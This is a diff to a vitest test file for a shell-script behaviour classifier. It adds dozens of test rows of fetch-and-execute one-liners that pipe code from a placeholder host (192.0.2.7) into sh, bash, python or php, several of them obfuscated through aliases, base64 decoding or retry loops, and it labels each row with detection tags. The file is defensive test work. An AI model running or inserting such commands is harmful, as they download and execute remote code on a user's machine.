@@ -1,4 +1,5 @@
 import { describe, expect, test } from "vitest";
+import { BEHAVIOUR_KINDS } from "./program.ts";
 import { follow, followShell, kinds, script } from "./support.test-support.ts";
 
 const encoded = (text: string): string => Buffer.from(text).toString("base64");
@@ -320,6 +321,36 @@ const EXACT: readonly (readonly [string, string])[] = [
     "perl -MMIME::Base64 -e 'eval decode_base64(\"c3lzdGVtKCJyZWJvb3QiKQ==\")'",
     "decode decode-to-interpreter encoded-text shutdown",
   ],
+  // Other spellings of the same.
+  ["(curl http://192.0.2.7/x) | (sh)", "fetch fetch-to-interpreter"],
+  ["curl http://192.0.2.7/x | exec sh", "fetch fetch-to-interpreter"],
+  ["curl http://192.0.2.7/x|sh&", "fetch fetch-to-interpreter"],
+  ["if wget -qO /srv/f http://192.0.2.7/x; then sh /srv/f; fi", "fetch fetch-to-interpreter"],
+  ["c=curl; s=sh; $c http://192.0.2.7/x | $s", "fetch fetch-to-interpreter"],
+  ["curl -s http://192.0.2.7/x -o- | sh", "fetch fetch-to-interpreter"],
+  ["curl http://192.0.2.7/x | tac | bash", "fetch fetch-to-interpreter"],
+  ['python3 -c "$(curl -s http://192.0.2.7/x)"', "fetch fetch-to-interpreter"],
+  ["php <(curl -s http://192.0.2.7/x)", "fetch fetch-to-interpreter"],
+  ["curl -s http://192.0.2.7/x | gunzip | sh", "fetch fetch-to-interpreter"],
+  ["curl -s http://192.0.2.7/x | base64 -d | sh", "decode fetch fetch-to-interpreter"],
+  ["base64 -d /srv/blob | sh", "decode decode-to-interpreter"],
+  ["coproc curl -s http://192.0.2.7/x", "network-ping"],
+  ["! curl -s http://192.0.2.7/x | sh", "fetch fetch-to-interpreter"],
+  ["time curl -s http://192.0.2.7/x | sh", "fetch fetch-to-interpreter"],
+  ["case $x in a) curl http://192.0.2.7/x | sh;; esac", "fetch fetch-to-interpreter"],
+  ["until false; do curl http://192.0.2.7/x | sh; sleep 60; done", "fetch fetch-to-interpreter"],
+  ["[[ $(curl http://192.0.2.7/x | sh) ]]", "fetch fetch-to-interpreter"],
+  [`x=(curl http://192.0.2.7/x); "$${"{x[@]}"}" | sh`, "fetch fetch-to-interpreter"],
+  ["alias g=curl; g http://192.0.2.7/x | sh", "fetch fetch-to-interpreter"],
+  ['set -- curl http://192.0.2.7/x; "$@" | sh', "fetch fetch-to-interpreter"],
+  ['v=$(curl -s http://192.0.2.7/version); echo "version $v" > /srv/v', "fetch"],
+  ['ip=$(curl -s https://ip.example.test); ddclient -ip "$ip"', "fetch"],
+  ["docker pull img:$(curl -s https://v.example.test)", "fetch"],
+  ["certbot renew -q --deploy-hook 'systemctl reload nginx'", ""],
+  ["journalctl --rotate", ""],
+  ["journalctl -u x --since today", ""],
+  ["systemctl reboot", "shutdown"],
+  ["apt-get -y upgrade", ""],
 ];
 
 describe("shell code", () => {
@@ -437,4 +468,17 @@ describe("scripts in files", () => {
   test.each(rows)("%s", (_, path, content, expected) => {
     expect(kinds(follow([path], { [path]: script(content) })).join(" ")).toBe(expected);
   });
+});
+
+test("every kind of behaviour is shown by some row", () => {
+  const shown = new Set(EXACT.flatMap(([, expected]) => expected.split(" ")));
+  const elsewhere = [
+    "executes",
+    "hides-output",
+    "inline-interpreter-code",
+    "sources",
+    "variable-to-interpreter",
+    "writes",
+  ];
+  expect(BEHAVIOUR_KINDS.filter((kind) => !shown.has(kind))).toEqual(elsewhere);
 });
